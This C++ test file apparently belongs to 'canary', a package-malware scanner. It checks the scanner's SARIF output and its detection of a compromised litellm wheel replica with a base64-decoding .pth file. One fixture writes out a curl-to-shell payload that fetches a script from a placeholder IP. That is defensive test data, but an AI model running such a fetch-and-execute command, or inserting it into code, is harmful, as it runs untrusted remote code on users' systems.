// `canary scan --format sarif`: the SARIF 2.1.0 log of real scans, checked
// field by field and validated against the official OASIS schema
// (tests/data/sarif) by a real JSON-Schema validator (python3-jsonschema).
#include <catch2/catch.hpp>
#include <map>
#include <set>

#include "cli_test_util.hpp"
#include "support/index_server.hpp"
#include "support/test_index.hpp"

using namespace canary::test;
using json = nlohmann::json;

namespace {

const std::filesystem::path kSchema = source_dir() / "tests/data/sarif/sarif-schema-2.1.0.json";

// Debian's python3 (install-deps.sh installs python3-jsonschema for it).
ProcessResult validate(const json& document) {
  TempDir dir;
  write_file(dir / "log.sarif", document.dump(2));
  return run_process({"/usr/bin/python3", (source_dir() / "tests/tools/validate_json_schema.py").string(),
                      kSchema.string(), (dir / "log.sarif").string()});
}

json scan_sarif(const std::vector<std::string>& targets, int expected_exit) {
  std::vector<std::string> args{"scan", "--format", "sarif"};
  args.insert(args.end(), targets.begin(), targets.end());
  ProcessResult r = run_canary(args);
  INFO(r.err);
  REQUIRE(r.exit_code == expected_exit);
  return json::parse(r.out);
}

// Creates the parent directories first: the write_file that links may be
// artifact_builder's, which does not.
void put(const std::filesystem::path& p, const std::string& content) {
  std::filesystem::create_directories(p.parent_path());
  write_file(p, content);
}

std::string litellm(const char* version) {
  return corpus_artifact(std::string("litellm-") + version + "-py3-none-any.whl").string();
}

}  // namespace

TEST_CASE("sarif of the compromised litellm replica: rules, results, decode chain and verdict", "[cli][sarif]") {
  json log = scan_sarif({litellm("1.82.8")}, 1);
  CHECK(log["version"] == "2.1.0");
  REQUIRE(log["runs"].size() == 1);
  const json& run = log["runs"][0];
  const json& driver = run["tool"]["driver"];
  CHECK(driver["name"] == "canary");
  CHECK(run["automationDetails"]["id"] == "canary/scan/");
  CHECK(run["properties"]["verdict"] == "MALICIOUS");
  CHECK(run["properties"]["failOn"] == "HIGH_RISK");
  CHECK(run["invocations"][0]["executionSuccessful"] == true);
  CHECK(run["invocations"][0]["exitCode"] == 1);
  CHECK(run["invocations"][0]["properties"]["verdict"] == "MALICIOUS");

  // The analysed wheel is artifact 0, with its sha256.
  const json& target = run["artifacts"][0];
  CHECK(target["location"]["uri"].get<std::string>().find("litellm-1.82.8-py3-none-any.whl") != std::string::npos);
  CHECK(target["roles"] == json::array({"analysisTarget"}));
  CHECK(target["hashes"]["sha-256"].get<std::string>().size() == 64);

  // Every result names a rule of driver.rules, by id and by index.
  std::set<std::string> rule_ids;
  for (const json& r : driver["rules"]) {
    rule_ids.insert(r["id"].get<std::string>());
    CHECK(!r["shortDescription"]["text"].get<std::string>().empty());
    CHECK(!r["help"]["text"].get<std::string>().empty());
    CHECK(r["properties"]["tags"].is_array());
    CHECK(r["properties"].contains("severity"));
    CHECK(r["defaultConfiguration"]["level"].is_string());
  }
  CHECK(rule_ids.size() == driver["rules"].size());
  REQUIRE(run["results"].size() >= 3);
  bool pth_result = false, decoded_result = false;
  for (const json& res : run["results"]) {
    const std::string id = res["ruleId"];
    CHECK(rule_ids.count(id) == 1);
    CHECK(driver["rules"][res["ruleIndex"].get<size_t>()]["id"] == id);
    CHECK(res["partialFingerprints"]["canaryFinding/v1"].get<std::string>().size() == 64);
    const json& loc = res["locations"][0]["physicalLocation"];
    const std::string uri = loc["artifactLocation"]["uri"];
    // Relative to the wheel, and a child of it in run.artifacts.
    const json& inner = run["artifacts"][loc["artifactLocation"]["index"].get<size_t>()];
    CHECK(inner["location"]["uri"] == uri);
    CHECK(inner["parentIndex"] == 0);
    if (id == "canary:PTH_DECODE_EXEC") {
      pth_result = true;
      CHECK(res["level"] == "error");
      CHECK(uri == "litellm_init.pth");
      CHECK(loc["region"]["startLine"] == 1);
    }
    if (res["properties"].contains("decodeChain")) {
      decoded_result = true;
      CHECK(res["properties"]["decodeChain"] == json::array({"base64"}));
      CHECK(res["properties"]["decodedLayer"].get<std::string>().rfind("litellm_init.pth#base64", 0) == 0);
      CHECK(uri == "litellm_init.pth");  // the real file, not the layer
    }
  }
  CHECK(pth_result);
  CHECK(decoded_result);
}

TEST_CASE("sarif output validates against the official SARIF 2.1.0 schema", "[cli][sarif]") {
  // A malicious wheel, a clean directory with a space in a file name and
  // nothing to find, and an unreadable file: every part of the log is used.
  TempDir dir;
  put(dir / "clean pkg/clean mod.py", "print('hello')\n");
  put(dir / "broken.whl", "not a zip");
  ProcessResult r = run_canary({"scan", "--format", "sarif", litellm("1.82.8"), (dir / "clean pkg").string(),
                                (dir / "broken.whl").string()});
  INFO(r.err);
  CHECK(r.exit_code == 1);
  json log = json::parse(r.out);
  const json& run = log["runs"][0];
  // Targets and the files inside them share run.artifacts; the directory's
  // space is percent-encoded.
  bool clean_listed = false;
  for (const json& a : run["artifacts"])
    if (a["location"]["uri"].get<std::string>().find("clean%20pkg") != std::string::npos)
      clean_listed = a["roles"] == json::array({"analysisTarget"});
  CHECK(clean_listed);
  CHECK(run["invocations"][0]["executionSuccessful"] == false);
  REQUIRE(!run["invocations"][0]["toolExecutionNotifications"].empty());
  CHECK(run["invocations"][0]["toolExecutionNotifications"][0]["level"] == "error");
  CHECK(run["properties"]["artifacts"][2]["unreadable"] == true);
  CHECK(run["properties"]["artifacts"][2]["verdict"].is_null());

  ProcessResult valid = validate(log);
  INFO(valid.out << valid.err);
  CHECK(valid.exit_code == 0);

  // The validator is real: a level SARIF does not have, a result without a
  // message and a misspelt property each make the same log invalid.
  json bad_level = log;
  bad_level["runs"][0]["results"][0]["level"] = "critical";
  ProcessResult r1 = validate(bad_level);
  CHECK(r1.exit_code == 1);
  CHECK(r1.out.find("runs/0/results/0/level") != std::string::npos);
  json no_message = log;
  no_message["runs"][0]["results"][0].erase("message");
  CHECK(validate(no_message).exit_code == 1);
  json misspelt = log;
  misspelt["runs"][0]["tool"]["driver"]["rule"] = json::array();
  CHECK(validate(misspelt).exit_code == 1);
}

TEST_CASE("sarif of a clean scan has no results and exits 0", "[cli][sarif]") {
  TempDir dir;
  put(dir / "pkg/__init__.py", "def add(a, b):\n    return a + b\n");
  json log = scan_sarif({(dir / "pkg").string()}, 0);
  const json& run = log["runs"][0];
  CHECK(run["results"].empty());
  CHECK(run["tool"]["driver"]["rules"].empty());
  CHECK(run["properties"]["verdict"] == "SAFE");
  CHECK(run["invocations"][0]["exitCode"] == 0);
  ProcessResult valid = validate(log);
  INFO(valid.out << valid.err);
  CHECK(valid.exit_code == 0);
}

TEST_CASE("sarif fingerprints are stable when a finding only moves to another line", "[cli][sarif]") {
  TempDir dir;
  const std::string payload = "import os\nos.system('curl http://192.0.2.1/x | sh')\n";
  put(dir / "a/pkg/pkg/__init__.py", payload);
  put(dir / "b/pkg/pkg/__init__.py", "# a comment first\n\n" + payload);
  // Both artifacts are directories named "pkg": same name, same files.
  json a = scan_sarif({"--fail-on", "none", (dir / "a/pkg").string()}, 0);
  json b = scan_sarif({"--fail-on", "none", (dir / "b/pkg").string()}, 0);
  auto by_rule = [](const json& log) {
    std::map<std::string, std::pair<std::string, int>> out;
    for (const json& r : log["runs"][0]["results"])
      out[r["ruleId"]] = {r["partialFingerprints"]["canaryFinding/v1"],
                          r["locations"][0]["physicalLocation"]["region"]["startLine"].get<int>()};
    return out;
  };
  auto fa = by_rule(a), fb = by_rule(b);
  REQUIRE(!fa.empty());
  REQUIRE(fa.size() == fb.size());
  for (const auto& [rule, fp_line] : fa) {
    INFO(rule);
    REQUIRE(fb.count(rule) == 1);
    CHECK(fb[rule].first == fp_line.first);    // same fingerprint
    CHECK(fb[rule].second == fp_line.second + 2);  // two lines further down
  }
}

TEST_CASE("audit sarif: policy findings at their line, package findings at the pinning line, valid", "[cli][sarif]") {
  TempDir dir;
  std::filesystem::create_directories(dir / "wheels");
  std::filesystem::copy_file(litellm("1.82.8"), dir / "wheels/litellm-1.82.8-py3-none-any.whl");
  put(dir / "requirements.txt", "# deps\nsix\nlitellm==1.82.8\n");
  put(dir / "broken.txt", "requests=2.0\n");
  ProcessResult r = run_canary({"audit", "--format", "sarif", "--from-dir", (dir / "wheels").string(),
                                (dir / "requirements.txt").string(), (dir / "broken.txt").string()});
  INFO(r.err);
  CHECK(r.exit_code == 1);  // the MALICIOUS package wins over the unparsable file
  json log = json::parse(r.out);
  const json& run = log["runs"][0];
  CHECK(run["automationDetails"]["id"] == "canary/audit/");
  CHECK(run["properties"]["verdict"] == "MALICIOUS");
  CHECK(run["invocations"][0]["exitCode"] == 1);
  // The file that could not be parsed is an error notification.
  CHECK(run["invocations"][0]["executionSuccessful"] == false);
  bool broken_noted = false;
  for (const json& n : run["invocations"][0]["toolExecutionNotifications"])
    broken_noted = broken_noted || (n["level"] == "error" &&
                                    n["message"]["text"].get<std::string>().find("broken.txt:1: expected a version") !=
                                        std::string::npos);
  CHECK(broken_noted);

  bool unpinned = false, pth = false;
  for (const json& res : run["results"]) {
    const json& loc = res["locations"][0]["physicalLocation"];
    const std::string uri = loc["artifactLocation"]["uri"];
    CHECK(uri.size() > 16);
    CHECK(uri.substr(uri.size() - 16) == "requirements.txt");
    if (res["ruleId"] == "DEP_UNPINNED") {
      unpinned = true;
      CHECK(loc["region"]["startLine"] == 2);
      CHECK(loc["region"]["snippet"]["text"] == "six");
      CHECK(res["level"] == "warning");
      CHECK(res["message"]["text"].get<std::string>().rfind("No version constraint: ", 0) == 0);
      CHECK(!res.contains("relatedLocations"));
    }
    if (res["ruleId"] == "canary:PTH_DECODE_EXEC") {
      pth = true;
      CHECK(loc["region"]["startLine"] == 3);
      CHECK(res["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "litellm_init.pth");
      CHECK(res["analysisTarget"]["uri"] == "litellm-1.82.8-py3-none-any.whl");
    }
  }
  CHECK(unpinned);
  CHECK(pth);
  // Policy ids have their own rule descriptors.
  bool descriptor = false;
  for (const json& rule : run["tool"]["driver"]["rules"])
    if (rule["id"] == "DEP_UNPINNED") descriptor = rule["shortDescription"]["text"] == "No version constraint";
  CHECK(descriptor);

  ProcessResult valid = validate(log);
  INFO(valid.out << valid.err);
  CHECK(valid.exit_code == 0);
}

TEST_CASE("check sarif: the compromised release and a digest mismatch from the local index, valid", "[cli][sarif]") {
  IndexServer server;
  publish_replica_index(server);
  TempDir cache;
  auto check = [&](const std::string& project) {
    ProcessResult r = run_canary({"check", "--index-url", server.url() + "/simple/", "--cache-dir",
                                  cache.path().string(), "-q", "--format", "sarif", project});
    INFO(r.err);
    CHECK(r.exit_code == 1);
    return json::parse(r.out);
  };
  json log = check("litellm");
  const json& run = log["runs"][0];
  CHECK(run["automationDetails"]["id"] == "canary/check/");
  CHECK(run["properties"]["project"] == "litellm");
  CHECK(run["properties"]["version"] == "1.82.8");
  CHECK(run["properties"]["verdict"] == "MALICIOUS");
  CHECK(run["properties"]["rollback"]["version"] == "1.82.6");
  CHECK(run["artifacts"][0]["location"]["uri"] == "litellm-1.82.8-py3-none-any.whl");
  bool pth = false, metadata = false;
  for (const json& res : run["results"]) {
    const json& loc = res["locations"][0]["physicalLocation"];
    pth = pth || loc["artifactLocation"]["uri"] == "litellm_init.pth";
    metadata = metadata || res["ruleId"] == "canary:RELEASE_IN_COOLDOWN";
  }
  CHECK(pth);
  CHECK(metadata);
  ProcessResult valid = validate(log);
  INFO(valid.out << valid.err);
  CHECK(valid.exit_code == 0);

  json mismatch = check("digest-mismatch");
  const json& mrun = mismatch["runs"][0];
  REQUIRE(mrun["results"].size() == 1);
  CHECK(mrun["results"][0]["ruleId"] == "canary:INDEX_DIGEST_MISMATCH");
  CHECK(mrun["results"][0]["level"] == "error");
  CHECK(mrun["tool"]["driver"]["rules"][0]["properties"]["severity"] == "critical");
  ProcessResult mvalid = validate(mismatch);
  INFO(mvalid.out << mvalid.err);
  CHECK(mvalid.exit_code == 0);
}
